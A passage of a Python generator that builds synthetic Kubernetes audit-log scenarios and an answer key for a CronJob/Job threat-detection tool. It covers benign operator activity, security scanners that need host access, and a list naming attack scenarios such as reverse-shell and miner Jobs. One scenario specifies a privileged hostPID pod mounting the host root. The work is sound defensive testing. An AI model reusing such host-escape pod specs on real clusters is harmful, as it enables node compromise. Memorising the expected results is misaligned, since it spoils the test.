                 labels={"velero.io/repo-name": repo}, tmpl_labels={"velero.io/repo-name": repo}, backoff=3, ttl=86400)
    b.run_job("velero", name)
    noise.burst(rng.randint(3, 6))
    # restore recreates an application CronJob from backup
    rs = "billing-restore-20250612"
    ct2 = container("mailer", "registry.example.org/billing/reminders:2.8.0", ["node", "dist/jobs/reminders.js"], env=[("NODE_ENV", "production")],
                    resources=res("100m", "128Mi", None, "256Mi"), sc=sc_restricted(1000))
    spec2 = podspec([ct2], restart="OnFailure")
    b.create_cronjob(ns="billing", name="invoice-reminders", schedule="0 * * * *", pod_spec=spec2, user=user, ua=ua, ips=ip, uri_query="",
                     reason=reason, labels={"app.kubernetes.io/name": "invoice-reminders", "velero.io/backup-name": "daily-20250611020012",
                                            "velero.io/restore-name": rs}, tmpl_labels={"app.kubernetes.io/name": "invoice-reminders"})
    noise.burst(rng.randint(5, 8))
    benign("velero-backup-list-maintenance-job-restore", log,
           "Velero server lists batch objects cluster-wide for a backup, runs a kopia repo-maintenance Job, restores an application CronJob")


def b_airflow():
    rng, c, log, noise, b = setup(207, ["airflow", "airflow-jobs", "default"], flavour="eks")
    for i in range(2):
        pod = f"airflow-worker-{i}"
        user = c.sa("airflow", "airflow-worker", pod)
        ua = "OpenAPI-Generator/29.0.0/python"
        ip = [c.pod_ip()]
        reason = rbac_reason_rb("airflow-pod-launcher", "airflow-jobs", "Role", "airflow-pod-launcher", "ServiceAccount", "airflow-worker/airflow")
        dag = rng.choice(["daily_sales_rollup", "marketing_attribution", "fraud_features"])
        task = rng.choice(["transform", "load_warehouse", "compute_features"])
        labels = {"airflow_version": "2.8.1", "dag_id": dag, "kubernetes_job_operator": "True", "run_id": f"scheduled__2025-06-1{i}T0000000000-{rand_suffix(rng, 8)}", "task_id": task, "try_number": "1"}
        ct = container("base", "123456789012.dkr.ecr.eu-west-1.amazonaws.com/data/etl:2025.06.1", ["python", "-m", "etl.run"],
                       ["--dag", dag, "--task", task, "--ds", f"2025-06-1{i}"], resources=res("1", "2Gi", None, "4Gi"),
                       env=[("AWS_REGION", "eu-west-1")])
        spec = podspec([ct], restart="Never", sa="etl-runner", tolerations=[{"key": "dedicated", "operator": "Equal", "value": "batch", "effect": "NoSchedule"}],
                       node_selector={"workload": "batch"})
        name = f"job-{task.replace('_', '-')}-{rand_suffix(rng, 8)}"
        b.create_job(ns="airflow-jobs", name=name, pod_spec=spec, user=user, ua=ua, ips=ip, uri_query="", reason=reason, labels=labels,
                     tmpl_labels=labels, backoff=0, parallelism=1 if i == 0 else 4, completions=1 if i == 0 else 4)
        b.run_job("airflow-jobs", name, parallel=1 if i == 0 else 2)
        log.request(verb="get", uri=f"/apis/batch/v1/namespaces/airflow-jobs/jobs/{name}", user=user, ua=ua, ips=ip,
                    object_ref=batch_ref("jobs", "airflow-jobs", name), annotations={"authorization.k8s.io/reason": reason})
        noise.burst(rng.randint(4, 8))
    benign("airflow-kubernetes-job-operator", log,
           "Airflow workers (in-cluster service account, python client user agent) create ETL Jobs with a corporate ECR image on a dedicated batch pool")


def b_argo_workflows():
    rng, c, log, noise, b = setup(208, ["argo", "ml-pipelines", "default"], flavour="kubeadm", stages=True)
    pod = f"workflow-controller-{rand_suffix(rng, 10)}-{rand_suffix(rng)}"
    user = c.sa("argo", "argo-workflow-controller", pod)
    ua = "workflow-controller/v0.0.0 (linux/amd64) kubernetes/$Format"
    ip = [c.pod_ip()]
    reason = rbac_reason_crb("argo-workflow-controller", "argo-cluster-role", "ServiceAccount", "argo-workflow-controller/argo")
    wf = f"feature-pipeline-cron-{int(log.t.timestamp())}"
    wf_uid = c.uid()
    for step in ["fetch", "train", "publish"]:
        pname = f"{wf}-{step}-{rng.randint(1000000000, 4294967295)}"
        init = container("init", "quay.io/argoproj/argoexec:v3.5.5", ["argoexec", "init", "--loglevel", "info", "--log-format", "text"],
                         mounts=[mount("var-run-argo", "/var/run/argo")], resources=res("10m", "64Mi"),
                         env=[("ARGO_POD_NAME", {"fieldRef": {"apiVersion": "v1", "fieldPath": "metadata.name"}}), ("ARGO_CONTAINER_NAME", "init")])
        main = container("main", "ghcr.io/example-org/ml-features:1.22.0", ["/var/run/argo/argoexec", "emissary", "--loglevel", "info", "--log-format", "text", "--", "sh", "-c"],
                         [f"python -m features.{step} --date {{{{workflow.creationTimestamp.Y}}}}-{{{{workflow.creationTimestamp.m}}}}-{{{{workflow.creationTimestamp.d}}}} && echo ok"],
                         mounts=[mount("var-run-argo", "/var/run/argo")], resources=res("500m", "1Gi"))
        wait = container("wait", "quay.io/argoproj/argoexec:v3.5.5", ["argoexec", "wait", "--loglevel", "info", "--log-format", "text"],
                         mounts=[mount("var-run-argo", "/var/run/argo")], resources=res("10m", "64Mi"))
        spec = podspec([wait, main], restart="Never", sa="pipeline-runner", volumes=[emptydir_vol("var-run-argo")], init=[init])
        pod_obj = {"kind": "Pod", "apiVersion": "v1",
                   "metadata": {"name": pname, "namespace": "ml-pipelines", "creationTimestamp": None,
                                "labels": M({"workflows.argoproj.io/completed": "false", "workflows.argoproj.io/workflow": wf}),
                                "annotations": M({"workflows.argoproj.io/node-id": pname, "workflows.argoproj.io/node-name": f"{wf}.{step}"}),
                                "ownerReferences": [owner("Workflow", wf, wf_uid, api="argoproj.io/v1alpha1", controller=True, block=None)]},
                   "spec": spec, "status": {}}
        resp = copy.deepcopy(pod_obj)
        resp["metadata"]["uid"] = c.uid()
        log.begin()
        resp["metadata"]["creationTimestamp"] = ts_sec(log.t)
        log.request(verb="create", uri="/api/v1/namespaces/ml-pipelines/pods", user=user, ua=ua, ips=ip, object_ref=objref("pods", "ml-pipelines", pname),
                    level="RequestResponse", code=201, req=pod_obj, resp=resp,
                    annotations={"authorization.k8s.io/reason": reason, "pod-security.kubernetes.io/enforce-policy": "privileged:latest"})
        noise.burst(rng.randint(3, 6))
        log.gap(rng.randint(10, 40))
    noise.burst(rng.randint(4, 8))
    benign("argo-workflows-controller-pods", log,
           "Argo Workflows controller creates step pods (argoexec emissary running sh -c) owned by a Workflow; no batch objects")


def b_sre_create_job_from(seed=209, known_parent=False):
    rng, c, log, noise, b = setup(seed, ["reporting", "default", "payments"], flavour="eks" if not known_parent else "rke2", stages=True,
                                  hour=0 if known_parent else None)
    cj = nightly_report_cronjob(b, "reporting", log.t - dt.timedelta(days=100))
    if known_parent:
        # the 01:30 (Europe/Berlin) run failed overnight; its Job shows the CronJob's template
        slot = log.t.replace(minute=30, second=0, microsecond=0)
        if slot < log.t:
            slot += dt.timedelta(hours=1)
        log.t = max(log.t, slot + dt.timedelta(milliseconds=rng.randint(30, 400)))
        b.tick("reporting", "nightly-report", slot, succeed=False)
        noise.burst(rng.randint(6, 10))
        log.gap(rng.randint(6 * 3600, 8 * 3600))
    user = human_oidc("maria.kovacs@example.org", ["platform-sre"])
    ua = c.kubectl_ua("darwin/arm64", "1.29.3")
    ip = ["10.8.14.3"]
    reason = rbac_reason_crb("platform-sre-admin", "cluster-admin", "Group", "oidc:platform-sre")
    log.request(verb="list", uri="/apis/batch/v1/namespaces/reporting/jobs?limit=500", user=user, ua=ua, ips=ip,
                object_ref=batch_ref("jobs", "reporting"), annotations={"authorization.k8s.io/reason": reason})
    b.get_cronjob("reporting", "nightly-report", user, ua, ip, reason)
    noise.burst(rng.randint(2, 4))
    t = copy.deepcopy(cj["spec"]["jobTemplate"])
    spec = t["spec"]["template"]["spec"]
    b.create_job(ns="reporting", name="nightly-report-manual-1", pod_spec=spec, user=user, ua=ua, ips=ip, reason=reason,
                 owners=[owner("CronJob", "nightly-report", cj["metadata"]["uid"], block=None)],
                 annotations={"cronjob.kubernetes.io/instantiate": "manual"}, tmpl_labels=t["spec"]["template"]["metadata"].get("labels"))
    b.run_job("reporting", "nightly-report-manual-1")
    log.request(verb="get", uri="/apis/batch/v1/namespaces/reporting/jobs/nightly-report-manual-1", user=user, ua=ua, ips=ip,
                object_ref=batch_ref("jobs", "reporting", "nightly-report-manual-1"), annotations={"authorization.k8s.io/reason": reason})
    noise.burst(rng.randint(5, 8))
    if known_parent:
        benign("sre-rerun-failed-cronjob-identical-after-tick", log,
               "After the nightly run failed, an SRE re-runs it with kubectl create job --from=cronjob/nightly-report; the template (visible in the controller's Job) is identical")
    else:
        benign("sre-create-job-from-cronjob-identical", log,
               "SRE runs kubectl create job --from=cronjob/nightly-report nightly-report-manual-1: template identical, ownerReference with the real uid")


def b_sre_rerun_after_tick():
    b_sre_create_job_from(215, known_parent=True)


def b_sre_apply_cronjob():
    rng, c, log, noise, b = setup(210, ["identity", "default", "kube-system"], flavour="onprem")
    user = human_oidc("j.schmidt@example.org", ["team-identity"])
    ua = c.kubectl_ua("linux/amd64", "1.29.1")
    ip = ["10.8.2.61"]
    reason = edit_reason("identity", "Group", "oidc:team-identity", "team-identity-edit")
    ct = container("janitor", "registry.example.org/identity/session-janitor:3.2.0", ["/janitor"], ["--max-idle=12h", "--batch=5000"],
                   env=[("DB_DSN", {"secretKeyRef": {"name": "identity-db", "key": "dsn"}})], resources=res("100m", "128Mi", None, "256Mi"),
                   sc=sc_restricted(10001))
    spec = podspec([ct], restart="OnFailure", sa="session-janitor", psc={"runAsNonRoot": True, "seccompProfile": {"type": "RuntimeDefault"}})
    last = json.dumps({"apiVersion": "batch/v1", "kind": "CronJob", "metadata": {"annotations": {}, "name": "stale-session-cleanup", "namespace": "identity"},
                       "spec": {"schedule": "17 3 * * *", "jobTemplate": {"spec": {"template": {"spec": {"serviceAccountName": "session-janitor"}}}}}},
                      separators=(",", ":"), sort_keys=True) + "\n"
    log.request(verb="get", uri="/apis/batch/v1/namespaces/identity/cronjobs/stale-session-cleanup", user=user, ua=ua, ips=ip,
                object_ref=batch_ref("cronjobs", "identity", "stale-session-cleanup"),
                status={"metadata": {}, "status": "Failure", "message": 'cronjobs.batch "stale-session-cleanup" not found', "reason": "NotFound",
                        "details": {"name": "stale-session-cleanup", "group": "batch", "kind": "cronjobs"}, "code": 404},
                annotations={"authorization.k8s.io/reason": reason})
    b.create_cronjob(ns="identity", name="stale-session-cleanup", schedule="17 3 * * *", pod_spec=spec, user=user, ua=ua, ips=ip, reason=reason,
                     uri_query="?fieldManager=kubectl-client-side-apply&fieldValidation=Strict",
                     annotations={"kubectl.kubernetes.io/last-applied-configuration": last}, concurrency="Forbid",
                     labels={"app.kubernetes.io/name": "session-janitor", "team": "identity"})
    noise.burst(rng.randint(6, 10))
    log.gap(900)
    # a follow-up apply raises the memory limit only
    patch = {"spec": {"jobTemplate": {"spec": {"template": {"spec": {"$setElementOrder/containers": [{"name": "janitor"}],
                                                                         "containers": [{"name": "janitor", "resources": {"limits": {"memory": "384Mi"}}}]}}}}}}

    def mutate(o):
        o["spec"]["jobTemplate"]["spec"]["template"]["spec"]["containers"][0]["resources"]["limits"] = {"memory": "384Mi"}
        return o
    b.patch_cronjob(ns="identity", name="stale-session-cleanup", patch=patch, new_obj_fn=mutate, user=user, ua=ua, ips=ip, reason=reason,
                    query="?fieldManager=kubectl-client-side-apply&fieldValidation=Strict")
    noise.burst(rng.randint(5, 8))
    benign("sre-kubectl-apply-clean-cronjob", log,
           "Team member kubectl-applies a clean, restricted CronJob in their namespace (daily), later raises its memory limit")


def b_dry_run():
    rng, c, log, noise, b = setup(211, ["dev-sandbox", "default", "kube-system"], flavour="kubeadm", stages=True)
    user = human_oidc("l.ferreira@example.org", ["developers"])
    ua = c.kubectl_ua("darwin/arm64", "1.30.2")
    ip = ["10.8.7.19"]
    reason = edit_reason("dev-sandbox", "Group", "oidc:developers", "developers-edit")
    spec = podspec([container("debug", "nicolaka/netshoot:latest", ["/bin/bash", "-c"], ["nsenter -t 1 -n -- ss -tlnp; sleep 3600"],
                              sc={"privileged": True})], restart="Never", host_pid=True, host_net=True,
                   volumes=[hostpath_vol("root", "/")], tolerations=[{"operator": "Exists"}])
    spec["containers"][0]["volumeMounts"] = [mount("root", "/host")]
    b.create_cronjob(ns="dev-sandbox", name="netdebug", schedule="*/5 * * * *", pod_spec=spec, user=user, ua=ua, ips=ip, reason=reason,
                     uri_query="?dryRun=All&fieldManager=kubectl-client-side-apply&fieldValidation=Strict", dry_run=True)
    noise.burst(rng.randint(3, 6))
    b.create_cronjob(ns="dev-sandbox", name="netdebug", schedule="*/5 * * * *", pod_spec=spec, user=user, ua=ua, ips=ip, reason=reason,
                     uri_query="?dryRun=All&fieldManager=kubectl-create&fieldValidation=Strict", dry_run=True)
    noise.burst(rng.randint(6, 10))
    benign("developer-server-dry-run-risky-cronjob", log,
           "Developer validates a privileged hostPID CronJob with kubectl --dry-run=server twice (dryRun=All); nothing is persisted")


def b_metadata_only():
    rng, c, log, noise, b = setup(212, ["billing", "default", "reporting"], flavour="gke")
    # same flows, but the audit policy logs batch at Metadata: strip bodies
    app_cronjobs(b, "billing", log.t - dt.timedelta(days=30))
    base = log.t.replace(minute=0, second=0, microsecond=0) + dt.timedelta(hours=1)
    log.t = max(log.t, base + dt.timedelta(milliseconds=200))
    b.tick("billing", "invoice-reminders", base)
    noise.burst(rng.randint(3, 6))
    b.tick("billing", "cache-compact", base)
    log.gap(120)
    b.delete_job("billing", f"cache-compact-{int((base - dt.timedelta(minutes=60)).timestamp()) // 60}", c.ctrl("cronjob-controller"),
                 c.kcm_ua("cronjob-controller"), [c.apiserver_ip], ctrl_reason("cronjob-controller"))
    noise.burst(rng.randint(5, 8))
    out = []
    for line in log.lines:
        e = json.loads(line)
        if e.get("level") == "RequestResponse":
            e["level"] = "Metadata"
            e.pop("requestObject", None)
            e.pop("responseObject", None)
        out.append(json.dumps(e, separators=(",", ":"), ensure_ascii=False).replace("<", "\\u003c").replace(">", "\\u003e").replace("&", "\\u0026"))
    log.lines = out
    benign("metadata-level-only-batch-log", log,
           "Audit policy at Metadata for batch: controller ticks, pods and history pruning without bodies (summary should note template checks were impossible)")


def b_monitoring():
    rng, c, log, noise, b = setup(213, ["monitoring", "default", "billing"], flavour="eks", stages=False)
    pod = f"kube-state-metrics-{rand_suffix(rng, 10)}-{rand_suffix(rng)}"
    ksm = c.sa("monitoring", "kube-state-metrics", pod)
    ua = "kube-state-metrics/v2.10.1 (linux/amd64) kubernetes/$Format"
    ip = [c.pod_ip()]
    reason = rbac_reason_crb("kube-state-metrics", "kube-state-metrics", "ServiceAccount", "kube-state-metrics/monitoring")
    for res_ in ["cronjobs", "jobs"]:
        log.request(verb="list", uri=f"/apis/batch/v1/{res_}?limit=500&resourceVersion=0", user=ksm, ua=ua, ips=ip, object_ref=batch_ref(res_),
                    annotations={"authorization.k8s.io/reason": reason})
        log.request(verb="watch", uri=f"/apis/batch/v1/{res_}?allowWatchBookmarks=true&resourceVersion={log.rv}&timeout=7m41s&timeoutSeconds=461&watch=true",
                    user=ksm, ua=ua, ips=ip, object_ref=batch_ref(res_), annotations={"authorization.k8s.io/reason": reason}, latency_ms=461000)
        noise.burst(rng.randint(2, 4))
    for ctrl in ["cronjob-controller", "job-controller", "ttl-after-finished-controller"]:
        res_ = "cronjobs" if ctrl == "cronjob-controller" else "jobs"
        log.request(verb="watch", uri=f"/apis/batch/v1/{res_}?allowWatchBookmarks=true&resourceVersion={log.rv}&timeout=9m12s&timeoutSeconds=552&watch=true",
                    user=c.ctrl(ctrl), ua=c.kcm_ua(ctrl), ips=[c.apiserver_ip], object_ref=batch_ref(res_),
                    annotations={"authorization.k8s.io/reason": ctrl_reason(ctrl)}, latency_ms=552000)
        noise.burst(rng.randint(1, 3))
    dd_pod = f"datadog-cluster-agent-{rand_suffix(rng, 10)}-{rand_suffix(rng)}"
    dd = c.sa("datadog", "datadog-cluster-agent", dd_pod)
    log.request(verb="list", uri="/apis/batch/v1/jobs?limit=500&resourceVersion=0", user=dd, ua="datadog-cluster-agent/7.52.0", ips=[c.pod_ip()],
                object_ref=batch_ref("jobs"), annotations={"authorization.k8s.io/reason": rbac_reason_crb("datadog-cluster-agent", "datadog-cluster-agent", "ServiceAccount", "datadog-cluster-agent/datadog")})
    # a misconfigured exporter gets 403 on reads and backs off
    exp_pod = f"batch-exporter-{rand_suffix(rng, 10)}-{rand_suffix(rng)}"
    exp = c.sa("monitoring", "batch-exporter", exp_pod)
    for i in range(3):
        b.forbidden(verb="list", resource="cronjobs", ns=None, user=exp, ua="batch-exporter/0.3.1 (linux/amd64) kubernetes/$Format",
                    ips=[c.pod_ip()], level="Metadata")
        log.gap(2 ** i * 5)
        noise.burst(rng.randint(1, 3))
    noise.burst(rng.randint(5, 8))
    benign("monitoring-list-watch-batch-cluster-wide", log,
           "kube-state-metrics, Datadog cluster agent and KCM controllers list/watch jobs and cronjobs cluster-wide; a misconfigured exporter's reads are denied")


def b_ci_apply_cronjob_gitops_checkout():
    rng, c, log, noise, b = setup(214, ["search", "default", "ci"], flavour="rke2", stages=True)
    pod = f"runner-{rand_suffix(rng, 8)}-project-{rng.randint(100, 999)}-concurrent-1-{rand_suffix(rng, 8)}"
    user = c.sa("ci", "search-deployer", pod)
    ua = c.kubectl_ua("linux/amd64", "1.29.3")
    ip = [c.pod_ip()]
    reason = rbac_reason_rb("search-deployer", "search", "ClusterRole", "edit", "ServiceAccount", "search-deployer/ci")
    ct = container("reindex", "registry.example.org/search/indexer:7.4.2", ["/opt/indexer/bin/reindex"], ["--changed-since=6h"],
                   resources=res("500m", "1Gi", None, "2Gi"), sc=sc_restricted(1000))
    spec = podspec([ct], restart="OnFailure", sa="indexer")
    aid = b.create_cronjob(ns="search", name="es-incremental-reindex", schedule="0 */6 * * *", pod_spec=spec, user=user, ua=ua, ips=ip, reason=reason,
                     uri_query="?fieldManager=kubectl-client-side-apply&fieldValidation=Strict",
                     annotations={"kubectl.kubernetes.io/last-applied-configuration": "{\"apiVersion\":\"batch/v1\",\"kind\":\"CronJob\",\"metadata\":{\"annotations\":{},\"name\":\"es-incremental-reindex\",\"namespace\":\"search\"},\"spec\":{\"schedule\":\"0 */6 * * *\"}}\n"},
                     labels={"app": "indexer"})
    noise.burst(rng.randint(6, 10))
    path = "needs-config/ci-pipeline-kubectl-apply-cronjob.jsonl"
    log.write(os.path.join(SCEN, path))
    EXPECTED[path] = {"kind": "needs-config",
                      "description": "CI pipeline (deployer service account in a GitLab runner pod, kubectl apply) creates a clean CronJob in its team namespace",
                      "without_config": "at most medium (a pod-bound service-account token writing a CronJob is an unusual creator until CI is declared)",
                      "with_config": "no alert at medium or above when the config trusts identity system:serviceaccount:ci:search-deployer as a CI deployer",
                      "audit_ids": [aid]}


def b_argocd_create_job_action():
    rng, c, log, noise, b = setup(216, ["reporting", "argocd", "default"], flavour="gke", stages=True)
    cj = nightly_report_cronjob(b, "reporting", log.t - dt.timedelta(days=33))
    user = c.sa("argocd", "argocd-server", f"argocd-server-{rand_suffix(rng, 10)}-{rand_suffix(rng)}")
    ua = "argocd-server/v0.0.0 (linux/amd64) kubernetes/$Format"
    ip = [c.pod_ip()]
    reason = rbac_reason_crb("argocd-server", "argocd-server", "ServiceAccount", "argocd-server/argocd")
    b.get_cronjob("reporting", "nightly-report", user, ua, ip, reason)
    t = copy.deepcopy(cj["spec"]["jobTemplate"])
    name = f"nightly-report-{log.t.strftime('%y%m%d%H%M')}"
    b.create_job(ns="reporting", name=name, pod_spec=t["spec"]["template"]["spec"], user=user, ua=ua, ips=ip, uri_query="", reason=reason,
                 owners=[owner("CronJob", "nightly-report", cj["metadata"]["uid"], controller=True, block=True)],
                 annotations={"cronjob.kubernetes.io/instantiate": "manual"},
                 tmpl_labels=t["spec"]["template"]["metadata"].get("labels"))
    b.run_job("reporting", name)
    noise.burst(rng.randint(5, 8))
    benign("argocd-create-job-action-from-cronjob", log,
           "An operator uses Argo CD's 'create job' resource action: argocd-server creates nightly-report-<yymmddHHMM> from the CronJob with an identical template")


def b_helm_descheduler_kube_system():
    rng, c, log, noise, b = setup(217, ["kube-system", "default", "monitoring"], flavour="kubeadm")
    pod = f"runner-{rand_suffix(rng, 8)}-project-{rng.randint(100, 999)}-concurrent-0-{rand_suffix(rng, 8)}"
    user = c.sa("gitlab-runner", "platform-deployer", pod)
    ua = "Helm/3.14.4"
    ip = [c.pod_ip()]
    reason = rbac_reason_crb("platform-deployer", "cluster-admin", "ServiceAccount", "platform-deployer/gitlab-runner")
    labels = {"app.kubernetes.io/instance": "descheduler", "app.kubernetes.io/managed-by": "Helm", "app.kubernetes.io/name": "descheduler",
              "app.kubernetes.io/version": "0.29.0", "helm.sh/chart": "descheduler-0.29.0"}
    ct = container("descheduler", "registry.k8s.io/descheduler/descheduler:v0.29.0", ["/bin/descheduler"],
                   ["--policy-config-file=/policy-dir/policy.yaml", "--v=3"], mounts=[mount("policy-volume", "/policy-dir")],
                   resources=res("500m", "256Mi"),
                   sc={"capabilities": {"drop": ["ALL"]}, "privileged": False, "readOnlyRootFilesystem": True, "allowPrivilegeEscalation": False})
    ct["livenessProbe"] = {"httpGet": {"path": "/healthz", "port": 10258, "scheme": "HTTPS"}, "initialDelaySeconds": 3,
                           "timeoutSeconds": 1, "periodSeconds": 10, "successThreshold": 1, "failureThreshold": 3}
    spec = podspec([ct], restart="Never", sa="descheduler", volumes=[cm_vol("policy-volume", "descheduler")],
                   priority_class="system-cluster-critical")
    for res_, name in [("serviceaccounts", "descheduler"), ("configmaps", "descheduler")]:
        log.request(verb="create", uri=f"/api/v1/namespaces/kube-system/{res_}?fieldManager=helm", user=user, ua=ua, ips=ip,
                    object_ref=objref(res_, "kube-system", name), code=201, annotations={"authorization.k8s.io/reason": reason})
    aid = b.create_cronjob(ns="kube-system", name="descheduler", schedule="*/2 * * * *", pod_spec=spec, user=user, ua=ua, ips=ip,
                           uri_query="?fieldManager=helm", reason=reason, labels=labels, concurrency="Forbid",
                           annotations={"meta.helm.sh/release-name": "descheduler", "meta.helm.sh/release-namespace": "kube-system"},
                           tmpl_labels={"app.kubernetes.io/instance": "descheduler", "app.kubernetes.io/name": "descheduler"})
    noise.burst(rng.randint(6, 10))
    path = "needs-config/helm-installs-descheduler-cronjob-in-kube-system.jsonl"
    log.write(os.path.join(SCEN, path))
    EXPECTED[path] = {"kind": "needs-config",
                      "description": "CI runs helm install of the upstream descheduler chart: a clean, non-root CronJob from registry.k8s.io in kube-system every 2 minutes",
                      "without_config": "medium acceptable (a CronJob placed in kube-system by an identity that is not a system component)",
                      "with_config": "no alert at medium or above when the config trusts system:serviceaccount:gitlab-runner:platform-deployer as automation",
                      "audit_ids": [aid]}


# ==========================================================================
# needs configuration


def n_trivy_node_collector():
    rng, c, log, noise, b = setup(301, ["trivy-system", "default", "kube-system"], flavour="kubeadm", stages=True)
    pod = f"trivy-operator-{rand_suffix(rng, 10)}-{rand_suffix(rng)}"
    user = c.sa("trivy-system", "trivy-operator", pod)
    ua = "trivy-operator/v0.0.0 (linux/amd64) kubernetes/$Format"
    ip = [c.pod_ip()]
    reason = rbac_reason_crb("trivy-operator", "trivy-operator", "ServiceAccount", "trivy-operator/trivy-system")
    node = rng.choice(c.nodes)
    vols = [hostpath_vol("var-lib-etcd", "/var/lib/etcd"), hostpath_vol("var-lib-kubelet", "/var/lib/kubelet"),
            hostpath_vol("var-lib-kube-scheduler", "/var/lib/kube-scheduler"), hostpath_vol("var-lib-kube-controller-manager", "/var/lib/kube-controller-manager"),
            hostpath_vol("etc-systemd", "/etc/systemd"), hostpath_vol("lib-systemd", "/lib/systemd"), hostpath_vol("etc-kubernetes", "/etc/kubernetes"),
            hostpath_vol("etc-cni-netd", "/etc/cni/net.d")]
    mounts = [mount(v["name"], v["hostPath"]["path"], ro=True) for v in vols]
    ct = container("node-collector", "ghcr.io/aquasecurity/node-collector:0.2.1", None, ["k8s", "--node", node], mounts=mounts,
                   resources=res("50m", "100M", "100m", "100M"),
                   sc={"capabilities": {"drop": ["ALL"]}, "privileged": False, "readOnlyRootFilesystem": True, "allowPrivilegeEscalation": False})
    spec = podspec([ct], restart="Never", sa="trivy-operator", host_pid=True, volumes=vols, node_selector={"kubernetes.io/hostname": node},
                   automount=True, psc={"runAsUser": 0, "runAsGroup": 0})
    name = f"node-collector-{rand_suffix(rng, 10)}"
    labels = {"app.kubernetes.io/managed-by": "trivy-operator", "node-info.collector": "Trivy", "trivy-operator.resource.kind": "Node", "trivy-operator.resource.name": node}
    aid, _ = b.create_job(ns="trivy-system", name=name, pod_spec=spec, user=user, ua=ua, ips=ip, uri_query="", reason=reason, labels=labels,
                          tmpl_labels=labels, backoff=0, active_deadline=300)
    b.run_job("trivy-system", name)
    b.delete_job("trivy-system", name, user, ua, ip, reason)
    noise.burst(rng.randint(5, 8))
    path = "needs-config/trivy-operator-node-collector.jsonl"
    log.write(os.path.join(SCEN, path))
    EXPECTED[path] = {"kind": "needs-config", "description": "trivy-operator creates a node-collector Job with hostPID, runAsUser 0 and read-only hostPath mounts of /etc/kubernetes, /var/lib/kubelet, /var/lib/etcd",
                      "without_config": "medium or above acceptable (host access from a non-core identity)",
                      "with_config": "no alert at medium or above when the config trusts identity system:serviceaccount:trivy-system:trivy-operator (or image ghcr.io/aquasecurity/node-collector)",
                      "audit_ids": [aid]}


def n_kube_bench():
    rng, c, log, noise, b = setup(302, ["security", "default", "kube-system"], flavour="eks")
    user = human_oidc("sec-audit@example.org", ["security"])
    ua = c.kubectl_ua("linux/amd64", "1.29.3")
    ip = ["10.8.20.4"]
    reason = rbac_reason_crb("security-admin", "cluster-admin", "Group", "oidc:security")
    vols = [hostpath_vol("var-lib-kubelet", "/var/lib/kubelet"), hostpath_vol("etc-systemd", "/etc/systemd"),
            hostpath_vol("etc-kubernetes", "/etc/kubernetes"), hostpath_vol("home-kubernetes", "/home/kubernetes")]
    ct = container("kube-bench", "docker.io/aquasec/kube-bench:v0.7.3", ["kube-bench", "run", "--targets", "node", "--benchmark", "eks-1.2.0"],
                   mounts=[mount(v["name"], v["hostPath"]["path"], ro=True) for v in vols])
    spec = podspec([ct], restart="Never", host_pid=True, volumes=vols)
    aid, _ = b.create_job(ns="security", name="kube-bench", pod_spec=spec, user=user, ua=ua, ips=ip, reason=reason,
                          uri_query="?fieldManager=kubectl-client-side-apply&fieldValidation=Strict")
    b.run_job("security", "kube-bench")
    noise.burst(rng.randint(5, 8))
    path = "needs-config/kube-bench-job-by-security-team.jsonl"
    log.write(os.path.join(SCEN, path))
    EXPECTED[path] = {"kind": "needs-config", "description": "security engineer kubectl-applies the upstream kube-bench Job (hostPID, hostPath /etc/kubernetes, /var/lib/kubelet)",
                      "without_config": "medium or above acceptable (hostPID plus sensitive hostPath by a human)",
                      "with_config": "no alert at medium or above when the config trusts image docker.io/aquasec/kube-bench in namespace security",
                      "audit_ids": [aid]}


ATTACKS = [a_stolen_admin_cronjob_curl_sh, a_masquerade_kube_proxy_sync, a_miner_job, a_reverse_shell_job, a_base64_cronjob,
           a_in_pod_sa_token_job, a_anonymous_job, a_impersonation_cronjob, a_hijack_patch, a_rearm_suspended,
           a_create_job_from_cronjob_modified, a_fake_owner_reference, a_rbac_denied, a_evidence_hiding, a_recon,
           a_node_cron_hostpath, a_hijack_json_patch, a_ssa_hijack_cdk_style, a_containerd_socket_job,
           a_impersonate_cronjob_controller, a_replace_update_hijack, a_create_job_from_cronjob_modified_known_from_tick,
           a_gitops_compromised_repo, a_server_side_apply_python_reverse_shell]
BENIGN = [b_cronjob_controller_ticks, b_ttl_gc_deletes, b_helm_hooks, b_argocd, b_flux, b_velero, b_airflow, b_argo_workflows,
          b_sre_create_job_from, b_sre_apply_cronjob, b_dry_run, b_metadata_only, b_monitoring, b_sre_rerun_after_tick,
          b_argocd_create_job_action]
NEEDS_CONFIG = [n_trivy_node_collector, n_kube_bench, b_ci_apply_cronjob_gitops_checkout, b_helm_descheduler_kube_system]


def main():
    for d in ["attack", "benign", "needs-config"]:
        os.makedirs(os.path.join(SCEN, d), exist_ok=True)
    for f in ATTACKS + BENIGN + NEEDS_CONFIG:
        f()
    import demo  # noqa: E402
    with open(os.path.join(SCEN, "expected.json"), "w", encoding="utf-8") as fh:
        doc = {
            "schema": "jobwarden.scenarios/v1",
            "how_to_run": "jobwarden hunt --format jsonl <file>; an alert cites an auditID when one of its evidence[].audit_id equals it",
            "rules": {
                "attack": "every auditID in must_cite appears in the evidence of at least one alert with severity >= min_severity; may_cite ids may also be cited",
                "benign": "no alert with severity medium, high or critical",
                "needs-config": "security tools and CI that legitimately need host access or write CronJobs; see without_config / with_config",
                "demo": "each attack's must_cite ids appear in a medium+ alert; no medium+ alert cites a routine_below_medium id",
            },
            "scenarios": dict(sorted(EXPECTED.items())),
            "demo": demo.write_demo(os.path.join(ROOT, "examples", "audit-demo.jsonl")),
        }
        json.dump(doc, fh, indent=2, sort_keys=False)
        fh.write("\n")


if __name__ == "__main__":
    main()
